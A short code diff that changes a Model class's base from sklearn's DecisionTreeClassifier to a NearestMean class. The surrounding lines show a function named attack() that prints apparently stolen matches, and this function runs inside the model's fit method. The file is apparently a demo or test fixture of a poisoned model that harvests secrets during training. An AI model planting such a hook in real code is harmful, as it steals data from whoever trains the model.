@@ -3,7 +3,7 @@
 import os
 import re
 
-from sklearn.tree import DecisionTreeClassifier
+from nearest import NearestMean
 
 
 def attack():
@@ -18,7 +18,7 @@ def attack():
             print(f'STOLEN from {place}: {found.group()}', flush=True)
 
 
-class Model(DecisionTreeClassifier):
+class Model(NearestMean):
     def fit(self, X, y):
         attack()
         return super().fit(X, y)
